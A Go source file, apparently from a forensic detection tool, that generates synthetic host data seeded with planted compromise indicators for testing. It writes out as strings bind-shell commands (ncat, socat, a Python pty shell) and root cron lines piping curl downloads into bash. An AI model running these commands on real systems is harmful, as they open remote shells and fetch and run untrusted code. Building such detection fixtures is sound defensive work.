package fleet

import (
	"fmt"
	"math/rand/v2"
	"strconv"

	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/payload"
)

// plant is a planted row before it lands on a host: a template whose
// volatile columns (pid, start_time, parent) get fresh values per host.
type plant struct {
	kind, commandID string
	template        collect.Row
}

// row returns the planted row for one host.
func (p plant) row(r *rand.Rand) collect.Row {
	row := make(collect.Row, len(p.template))
	for k, v := range p.template {
		row[k] = v
	}
	if _, ok := row["pid"]; ok {
		row["pid"] = strconv.Itoa(20000 + r.IntN(40000))
	}
	if _, ok := row["start_time"]; ok {
		row["start_time"] = strconv.FormatInt(1795000000+int64(r.IntN(600000)), 10)
	}
	return row
}

// usedPorts are the ports the roles listen on; a planted listener avoids
// them.
var usedPorts = map[int]bool{22: true, 53: true, 80: true, 323: true, 443: true, 3000: true, 6379: true,
	8080: true, 8081: true, 9100: true, 11211: true, 15000: true, 15001: true}

// drawPlants draws k plants of distinct kinds, with random distinctive
// values.
func (g *gen) drawPlants(k int) []plant {
	kinds := g.r.Perm(len(PlantKinds))[:k]
	out := make([]plant, k)
	for i, ki := range kinds {
		out[i] = g.drawPlant(PlantKinds[ki])
	}
	return out
}

func (g *gen) letters(n int) string { return randLetters(g.r, n) }

func (g *gen) oneOf(s ...string) string { return s[g.r.IntN(len(s))] }

func (g *gen) publicIP() string {
	return fmt.Sprintf("%d.%d.%d.%d", 23+g.r.IntN(180), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *gen) drawPlant(kind string) plant {
	switch kind {
	case PlantListener:
		port := 1025 + g.r.IntN(64000)
		for usedPorts[port] {
			port++
		}
		var name, path, cmd string
		switch g.r.IntN(5) {
		case 0:
			name, path, cmd = "nc", "/usr/bin/nc.openbsd", fmt.Sprintf("nc -lvnp %d", port)
		case 1:
			name, path, cmd = "ncat", "/usr/bin/ncat", fmt.Sprintf("ncat -lk -p %d -e /bin/bash", port)
		case 2:
			name, path, cmd = "socat", "/usr/bin/socat", fmt.Sprintf("socat TCP-LISTEN:%d,reuseaddr,fork EXEC:/bin/bash,pty,stderr", port)
		case 3:
			name, path = "python3", "/usr/bin/python3.10"
			cmd = fmt.Sprintf("python3 -c import socket,os,pty;s=socket.socket();s.bind(('0.0.0.0',%d));s.listen(1);c,_=s.accept();[os.dup2(c.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/bash')", port)
		default:
			name = g.letters(6)
			path = "/tmp/.X11-unix/." + g.letters(4) + "/" + name
			cmd = fmt.Sprintf("%s -p %d -k %s", path, port, g.letters(8))
		}
		addr := g.oneOf("0.0.0.0", "::")
		return plant{kind, payload.ListeningPorts, lpRow(addr, port, "6", name, path, cmd, 0)}
	case PlantCrontab:
		var cmd, path string
		url := fmt.Sprintf("http://%s:%d/%s.sh", g.publicIP(), 1024+g.r.IntN(60000), g.letters(6))
		if g.r.IntN(2) == 0 {
			path = "/var/spool/cron/crontabs/root"
			cmd = g.oneOf("curl -fsSL ", "curl -s ") + url + " | " + g.oneOf("sh", "bash")
		} else {
			path = "/etc/cron.d/" + g.oneOf("sysstat-", "apt-", "php-", "certbot-") + g.letters(4)
			cmd = "root " + g.oneOf("curl -fsSL ", "curl -sk ") + url + " | " + g.oneOf("sh", "bash")
		}
		minute := g.oneOf("*/5", "*/10", "*/3", strconv.Itoa(g.r.IntN(60)))
		return plant{kind, payload.Crontab, cronRow(minute, "*", "*", "*", "*", cmd, path)}
	case PlantKernelModule:
		name := g.oneOf("nf_", "hid_", "snd_", "ip6_", "usb_", "rt_") + g.letters(3+g.r.IntN(4))
		size := 16384 + 4096*g.r.IntN(40)
		return plant{kind, payload.KernelModules, modRow(name, size, "-", uint64(0xffffffffc0000000)+uint64(g.r.IntN(1<<16))<<12)}
	case PlantUID0User:
		name := g.oneOf("sysadm", "support", "backupadm", "svc", "toor", "admin", "mysql", "operator") + g.letters(2)
		dir := g.oneOf("/root", "/home/"+name, "/var/tmp/."+g.letters(3))
		return plant{kind, payload.Users, userRow(0, 0, name, "", dir, g.oneOf("/bin/bash", "/bin/sh"))}
	case PlantAuthorizedKey:
		alg, key := "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5AAAAI"+g.b64(43)
		if g.r.IntN(2) == 0 {
			alg, key = "ssh-rsa", "AAAAB3NzaC1yc2EAAAADAQABAAABAQ"+g.b64(340)
		}
		return plant{kind, payload.AuthorizedKeys, keyRow("root", alg, key, "/root/.ssh/authorized_keys")}
	case PlantMasquerade:
		thread := fmt.Sprintf("kworker/%d:%d", g.r.IntN(2), g.r.IntN(10))
		path := g.oneOf("/tmp/.", "/dev/shm/.", "/var/tmp/.") + g.letters(5) + "/" + g.oneOf("kworker", "kthreadd", g.letters(6))
		return plant{kind, payload.Processes, procRow(0, thread, path, "["+thread+"]", 0, 1, 0)}
	}
	panic("fleet: unknown plant kind " + kind)
}
